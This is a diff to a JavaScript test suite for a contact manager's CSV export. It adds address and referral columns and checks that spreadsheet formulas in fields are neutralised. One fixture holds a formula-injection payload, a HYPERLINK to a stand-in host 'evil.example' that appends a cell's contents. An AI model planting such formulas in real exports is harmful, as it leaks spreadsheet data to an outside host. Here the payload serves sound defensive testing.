@@ -757,8 +757,8 @@ describe('vCard', () => {
 });
 
 describe('exports', () => {
-  const jane = contactOf({ id: 'c1', name: 'Jane Doe', company: '=HYPERLINK("x")', emails: ['jane@acme.com'], tags: ['a', 'b'] });
-  const bob = contactOf({ id: 'c2', name: 'Bob, "the" Builder', notes: '=HYPERLINK("https://evil.example/?q="&A2,"Open")\nsecond line' });
+  const jane = contactOf({ id: 'c1', name: 'Jane Doe', company: '=HYPERLINK("x")', emails: ['jane@acme.com'], tags: ['a', 'b'], addresses: ['1 Main St, Leeds', 'Flat 2, 3 High St, York'] });
+  const bob = contactOf({ id: 'c2', name: 'Bob, "the" Builder', notes: '=HYPERLINK("https://evil.example/?q="&A2,"Open")\nsecond line', referredBy: 'c1' });
 
   it('CSV: one row per contact with the last interaction, formulas neutralised', () => {
     const interactions = [
@@ -771,11 +771,11 @@ describe('exports', () => {
     expect(csv.startsWith('\uFEFFName,')).toBe(true);
     const lines = csv.slice(1).split('\r\n');
     expect(lines[0]).toBe(
-      'Name,Title,Company,Location,Emails,Phones,Profile URL,Relationship,Warmth,Tags,Notes,Last interaction,Last interaction channel,Last interaction summary',
+      'Name,Title,Company,Location,Emails,Phones,Addresses,Profile URL,Relationship,Warmth,Referred by,Tags,Notes,Last interaction,Last interaction channel,Last interaction summary',
     );
-    expect(lines[1]).toBe(`Jane Doe,,"'=HYPERLINK(""x"")",,jane@acme.com,,,Other,cold,a; b,,2026-06-03,email,Sent CV`);
+    expect(lines[1]).toBe(`Jane Doe,,"'=HYPERLINK(""x"")",,jane@acme.com,,"1 Main St, Leeds\nFlat 2, 3 High St, York",,Other,cold,,a; b,,2026-06-03,email,Sent CV`);
     // A formula over two lines is a formula too.
-    expect(lines[2]).toBe('"Bob, ""the"" Builder",,,,,,,Other,cold,,"\'=HYPERLINK(""https://evil.example/?q=""&A2,""Open"")\nsecond line",,,');
+    expect(lines[2]).toBe('"Bob, ""the"" Builder",,,,,,,,Other,cold,Jane Doe,,"\'=HYPERLINK(""https://evil.example/?q=""&A2,""Open"")\nsecond line",,,');
     expect(lines).toHaveLength(4);
     expect(lines[3]).toBe('');
   });
